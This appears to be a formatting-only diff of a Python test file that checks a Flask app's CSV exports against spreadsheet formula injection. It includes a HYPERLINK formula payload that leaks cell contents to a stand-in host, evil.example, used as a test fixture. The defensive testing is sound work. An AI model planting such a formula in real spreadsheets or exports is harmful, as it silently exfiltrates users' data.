@@ -30,8 +30,9 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
 
 
 def _cells(text: str, delimiter: str) -> list[str]:
-    reader = csv.reader(io.StringIO(text.removeprefix(spreadsheets.BOM), newline=""),
-                        delimiter=delimiter)
+    reader = csv.reader(
+        io.StringIO(text.removeprefix(spreadsheets.BOM), newline=""), delimiter=delimiter
+    )
     return [cell for row in reader for cell in row]
 
 
@@ -51,8 +52,7 @@ cell_text = st.text(alphabet=st.sampled_from(list("=+-@'\" ,;\t\r\nab1\uff1d")),
 
 
 @given(cell_text)
-def test_a_guarded_cell_runs_nothing_in_either_dialect_and_comes_back_exactly(
-        text: str) -> None:
+def test_a_guarded_cell_runs_nothing_in_either_dialect_and_comes_back_exactly(text: str) -> None:
     guarded = spreadsheets.safe_cell(text)
     assert spreadsheets.unguarded(guarded) == text
     written = _written(guarded.join("ab"), guarded)
@@ -71,10 +71,14 @@ def test_the_found_payloads() -> None:
 
 
 def test_an_action_summary_splits_into_no_formula_in_a_semicolon_spreadsheet(
-        app, auth: Auth, client: FlaskClient) -> None:
+    app, auth: Auth, client: FlaskClient
+) -> None:
     pairing = make_sponsorship(make_sponsor(), make_prisoner(external_id="p-1"))
-    db.session.add(Action(sponsorship=pairing, kind=ActionKind.CARD,
-                          occurred_on=date(2026, 5, 21), summary=CALC))
+    db.session.add(
+        Action(
+            sponsorship=pairing, kind=ActionKind.CARD, occurred_on=date(2026, 5, 21), summary=CALC
+        )
+    )
     db.session.commit()
     auth.login(make_coordinator().email)
     text = client.get("/coordinator/prisoners/export/actions.csv").get_data(as_text=True)
@@ -86,20 +90,25 @@ def test_an_action_summary_splits_into_no_formula_in_a_semicolon_spreadsheet(
 def test_an_imported_formula_is_exported_guarded(app, auth: Auth, client: FlaskClient) -> None:
     header = ",".join(csvio.COLUMNS)
     row = {column: "" for column in csvio.COLUMNS}
-    row.update(external_id="x-1", name_latin="Test Prisoner", status="sentenced",
-               sentence=HYPERLINK, bio="-; @SUM(1+1)")
+    row.update(
+        external_id="x-1",
+        name_latin="Test Prisoner",
+        status="sentenced",
+        sentence=HYPERLINK,
+        bio="-; @SUM(1+1)",
+    )
     buffer = io.StringIO()
     csv.writer(buffer).writerow([row[column] for column in csvio.COLUMNS])
     result = read_prisoners(header + "\r\n" + buffer.getvalue())
     assert result.ok, result.errors
-    apply_import(plan_import(result.rows, db.session), db.session,
-                       date(2026, 12, 3))
+    apply_import(plan_import(result.rows, db.session), db.session, date(2026, 12, 3))
     db.session.commit()
     auth.login(make_coordinator().email)
     text = client.get("/coordinator/prisoners/export/prisoners.csv").get_data(as_text=True)
     for delimiter in ",;":
         assert _runnable(_cells(text, delimiter)) == [], delimiter
-    cells = dict(zip(*csv.reader(io.StringIO(text.removeprefix(spreadsheets.BOM),
-                                             newline="")), strict=True))
+    cells = dict(
+        zip(*csv.reader(io.StringIO(text.removeprefix(spreadsheets.BOM), newline="")), strict=True)
+    )
     assert cells["sentence"] == "'" + HYPERLINK
     assert spreadsheets.unguarded(cells["bio"]) == "-; @SUM(1+1)"
